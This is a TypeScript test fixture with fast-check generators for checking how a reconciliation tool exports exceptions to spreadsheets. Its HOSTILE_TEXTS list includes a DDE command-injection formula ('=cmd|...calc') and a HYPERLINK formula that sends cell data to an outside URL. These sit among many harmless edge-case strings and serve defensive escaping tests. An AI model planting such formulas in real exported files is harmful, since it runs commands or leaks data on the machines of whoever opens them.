import fc from 'fast-check';
import type { SheetException } from '../../../src/reconcile/sheet/columns.ts';

// Exceptions for spreadsheets, also with texts that a spreadsheet program would run, change or lose.

export const TODAY = '2026-11-20';

export function sheetException(over: Partial<SheetException> = {}): SheetException {
  return {
    id: 'x-0123456789abcdef01234567',
    version: 3,
    code: 'fee_mismatch',
    reason: 'The fee of collection C-17 is 2.00 in our records, and 3.50 in the statement.',
    side: 'ours',
    reference: 'C-17',
    date: '2026-10-14',
    currency: 'NGN',
    ours: '2.00',
    theirs: '3.50',
    variance: '1.50',
    effect: '-1.50',
    firstSeen: '2026-10-15',
    nextStep: 'Claim it from the service.',
    sameAs: null,
    status: 'open',
    resolution: null,
    reasonCode: null,
    assignee: null,
    comment: null,
    followUp: null,
    changedBy: 'tallyhook',
    changedAtMs: Date.UTC(2026, 10, 2),
    ...over,
  };
}

/** Texts that have hurt spreadsheets. */
export const HOSTILE_TEXTS = [
  '=1+1',
  '=HYPERLINK("https://example.org?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  "'=1+1",
  "''=1+1",
  "'",
  ' =1+1',
  'said;=1+1',
  'two\nlines\n=1+1',
  'two\r\nlines',
  'a,b;c|d\te"f"',
  '1.23E+15',
  '1234567890123456',
  '0012345',
  '1-2',
  'TRUE',
  '-',
  'constructor',
  '__proto__',
  'toString',
  '_x0041_',
  '_x005F_',
  '\u0001\u0008\u000b\u001f\u007f\u0085',
  '\uFFFD\uFFFE\uFEFF',
  '\uD800 half',
  '\u{1F600} \u202Eabc\u200B',
  '<b>&amp;</b>]]>',
  'sep=;',
  'total',
];

const hostile = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.string({ unit: 'binary', maxLength: 24 }),
  fc.string({ unit: fc.constantFrom('=', "'", '"', ';', ' ', '-', '\t', '\n', '\r', 'x', '＝', '@'), maxLength: 10 }),
);
const amount = fc
  .bigInt({ min: -(10n ** 17n), max: 10n ** 17n })
  .map((minor) => `${minor < 0n ? '-' : ''}${String(minor < 0n ? -minor : minor).padStart(3, '0')}`)
  .map((digits) => `${digits.slice(0, -2)}.${digits.slice(-2)}`);
const day = fc
  .integer({ min: 10_000, max: 30_000 })
  .map((days) => new Date(days * 86_400_000).toISOString().slice(0, 10));
const nullable = <Value>(values: fc.Arbitrary<Value>) => fc.option(values, { nil: null });
/** The port keeps no empty comment and no empty name. */
const filled = nullable(hostile.map((text) => text.trim()).filter((text) => /[\p{L}\p{N}\p{S}\p{P}]/u.test(text)));

/** Exceptions with different ids, in any state. */
export const exceptionsWithHostileCells = fc.uniqueArray(
  fc.record<SheetException>({
    id: fc.stringMatching(/^x-[0-9a-f]{24}$/),
    version: fc.integer({ min: 1, max: 1_000_000 }),
    code: fc.constantFrom('fee_mismatch', 'missing_internal', 'unparsed'),
    reason: hostile,
    side: fc.constantFrom('ours', 'theirs'),
    reference: nullable(hostile),
    date: day,
    currency: nullable(fc.constantFrom('NGN', 'USD')),
    ours: nullable(fc.oneof(amount, hostile)),
    theirs: nullable(fc.oneof(amount, hostile)),
    variance: nullable(amount),
    effect: amount,
    firstSeen: day,
    nextStep: hostile,
    sameAs: fc.constant(null),
    status: fc.constantFrom('open', 'assigned', 'resolved', 'closed', 'reopened'),
    resolution: nullable(fc.constantFrom('accept', 'claim', 'match', 'undo_match', 'carry', 'ours')),
    reasonCode: nullable(fc.constantFrom('rounding', 'other', 'Own_Code')),
    assignee: filled,
    comment: filled,
    followUp: nullable(day),
    changedBy: fc.constant('ada'),
    changedAtMs: fc.constant(0),
  }),
  { selector: ({ id }) => id, maxLength: 12 },
);
